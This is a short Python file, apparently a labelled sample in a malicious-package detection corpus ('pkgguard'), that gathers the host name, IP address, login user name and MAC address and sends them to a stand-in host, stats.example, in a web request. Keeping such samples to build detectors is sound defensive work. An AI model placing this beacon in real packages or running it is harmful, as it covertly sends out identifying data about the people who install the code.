# pkgguard corpus 226 (system-information), modelled on [checkmarx-2024]; inert, never run.
import os
import socket
import urllib.parse
import urllib.request
import uuid

info = {
    "h": socket.gethostname(),
    "ip": socket.gethostbyname(socket.gethostname()),
    "u": os.getlogin(),
    "m": hex(uuid.getnode()),
}
urllib.request.urlopen("https://stats.example/p?" + urllib.parse.urlencode(info), timeout=3)
